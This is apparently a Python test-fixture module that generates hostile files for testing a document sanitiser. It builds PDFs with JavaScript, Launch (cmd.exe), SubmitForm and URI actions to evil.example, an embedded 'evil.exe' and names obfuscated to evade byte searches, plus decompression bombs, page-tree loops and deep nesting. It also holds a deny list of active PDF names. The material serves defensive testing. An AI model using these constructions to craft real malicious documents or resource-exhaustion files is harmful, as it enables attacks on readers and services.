"""Hostile papers, made in code: PDFs that act, files that are two things at once, bombs, broken ones."""

import io
import itertools
import struct
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from tests import papers

# What none of our copies may hold, as names inside a PDF.
ACTIVE = ("/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/OpenAction", "/AA", "/AcroForm", "/XFA")
ACTIVE += ("/SubmitForm", "/ImportData", "/GoToE", "/GoToR", "/RichMedia", "/Filespec", "/Annots", "/URI", "/Movie", "/Sound")


def _action(file: Pdf, kind: str) -> pikepdf.Object:
    attached = file.make_stream(b"MZ evil", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=attached))
    made = {
        "JavaScript": Dictionary(S=Name.JavaScript, JS=String("app.alert('evil')")),
        "JavaScriptStream": Dictionary(S=Name.JavaScript, JS=file.make_stream(b"app.alert('evil')")),
        "Launch": Dictionary(S=Name.Launch, F=String("cmd.exe")),
        "SubmitForm": Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")),
        "ImportData": Dictionary(S=Name.ImportData, F=spec),
        "GoToE": Dictionary(S=Name.GoToE, F=spec, T=Dictionary(R=Name.C)),
        "GoToR": Dictionary(S=Name.GoToR, F=String("\\\\evil\\share"), D=Array([0])),
        "URI": Dictionary(S=Name.URI, URI=String("http://evil.example/")),
        "Movie": Dictionary(S=Name.Movie, T=String("x")),
        "Chain": Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.JavaScript, JS=String("evil()"))),
    }
    return made[kind]


ACTIONS = ("JavaScript", "JavaScriptStream", "Launch", "SubmitForm", "ImportData", "GoToE", "GoToR", "URI", "Movie", "Chain")


def _hang(file: Pdf, place: str, action: pikepdf.Object) -> None:
    page, root = file.pages[0], file.Root
    if place == "open":
        root.OpenAction = action
    elif place == "page":
        page.AA = Dictionary(O=action)
    elif place == "names":
        root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))
    elif place == "link":
        page.Annots = Array([file.make_indirect(_annotation("/Link", A=action))])
    elif place == "widget":
        field = file.make_indirect(_annotation("/Widget", FT=Name.Tx, T=String("f"), AA=Dictionary(K=action), A=action))
        page.Annots = Array([field])
        root.AcroForm = Dictionary(Fields=Array([field]), XFA=String("<xdp/>"))
    elif place == "xobject":
        page.Resources.XObject = Dictionary(
            X=file.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], AA=action, PieceInfo=action)
        )
    elif place == "font":
        page.Resources.Font.F1.Extra = Array([1, action, Dictionary(Deep=Array([action]))])
    elif place == "resource":
        page.Resources.Properties = Dictionary(JS=action)
    elif place == "outline":
        item = file.make_indirect(Dictionary(Title=String("x"), A=action))
        root.Outlines = Dictionary(First=item, Last=item, Count=1)
    elif place == "parent":
        file.Root.Pages.AA = action


PLACES = ("open", "page", "names", "link", "widget", "xobject", "font", "resource", "outline", "parent")


def _annotation(kind: str, **more: object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=[0, 0, 100, 100], **more)


def acting_pdfs() -> Iterator[tuple[str, bytes]]:
    """Every action in every place, written in three ways, one of them compressed and one encrypted."""
    ways = {
        "plain": {},
        "packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "locked": {"encryption": pikepdf.Encryption(user="", owner="x")},
    }
    for kind, place, way in itertools.product(ACTIONS, PLACES, ways):
        file = papers.document(["A paper"])
        _hang(file, place, _action(file, kind))
        data = papers.saved(file, **ways[way])
        if way == "plain":
            # The same names, spelled so that a search for bytes does not find them.
            data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/Launch", b"/L#61unch")
        yield f"{kind}-{place}-{way}", data


def attached_pdf() -> bytes:
    """A PDF that carries a program."""
    file = papers.document(["A paper"])
    file.attachments["evil.exe"] = b"MZ evil program"
    note = _annotation("/FileAttachment", FS=file.Root.Names.EmbeddedFiles.Names[1])
    file.pages[0].Annots = Array([file.make_indirect(note)])
    file.docinfo["/Author"] = "Maria Lopez"
    return papers.saved(file)


def filled_form_pdf(typed: str) -> bytes:
    """A form whose field shows what a parent typed."""
    file = papers.document([""])
    look = file.make_stream(
        b"BT /F1 24 Tf 5 10 Td (" + typed.encode() + b") Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 400, 40],
        Resources=file.pages[0].Resources,
    )
    field = _annotation("/Widget", FT=Name.Tx, T=String("name"), V=String(typed), F=4, AP=Dictionary(N=look))
    field.Rect = Array([72, 600, 472, 640])
    made = file.make_indirect(field)
    file.pages[0].Annots = Array([made])
    file.Root.AcroForm = Dictionary(Fields=Array([made]))
    return papers.saved(file)


def pixel_bomb_png(side: int = 60_000) -> bytes:
    """A small PNG that says it is a huge one, and is."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes((side + 7) // 8 + 1) * 2000, 9)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def text_bomb_png() -> bytes:
    """A PNG with a note of 200 MB in a few kilobytes."""
    picture = papers.png()
    note = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    chunk = struct.pack(">I", len(note)) + b"zTXt" + note + struct.pack(">I", zlib.crc32(b"zTXt" + note))
    return picture[:33] + chunk + picture[33:]


def page_tree_loop_pdf() -> bytes:
    """A PDF whose pages are their own parents."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def nested_pdf(depth: int = 20_000) -> bytes:
    """A PDF with an array in an array in an array …"""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</X " + b"[" * depth + b"]" * depth + b">>>>endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\n%%EOF"
    )


def image_bomb_pdf(side: int = 60_000) -> bytes:
    """A PDF of some kilobytes with a picture of 3.6 thousand million pixels."""
    file = papers.document(["Look at this"])
    image = file.make_stream(
        zlib.compress(zlib.compress(bytes(10_000_000), 9), 9),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=side,
        Height=side,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Array([Name.FlateDecode, Name.FlateDecode]),
    )
    file.pages[0].Resources.XObject = Dictionary(Bomb=image)
    file.pages[0].Contents = file.make_stream(b"q 600 0 0 700 0 0 cm /Bomb Do Q")
    return papers.saved(file)


def endless_pdf() -> bytes:
    """A page that draws itself again and again, deeper and deeper."""
    file = papers.document(["x"])
    inner = file.make_stream(b"0 0 600 700 re f " * 2000, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 700])
    for _level in range(12):
        inner = file.make_stream(
            b"/X Do " * 12,
            Type=Name.XObject,
            Subtype=Name.Form,
            BBox=[0, 0, 600, 700],
            Resources=Dictionary(XObject=Dictionary(X=inner)),
        )
    file.pages[0].Resources.XObject = Dictionary(X=inner)
    file.pages[0].Contents = file.make_stream(b"/X Do")
    return papers.saved(file)


def animated_png() -> bytes:
    """Two pictures in one, the first of which is a paper."""
    out = io.BytesIO()
    papers.picture("First").save(out, "PNG", save_all=True, append_images=[Image.new("RGB", (900, 1200), "red")])
    return out.getvalue()


def burst_jpeg() -> bytes:
    """A phone's burst: two photographs in one JPEG (MPO)."""
    out = io.BytesIO()
    papers.picture("First").save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (900, 1200), "red")])
    return out.getvalue()
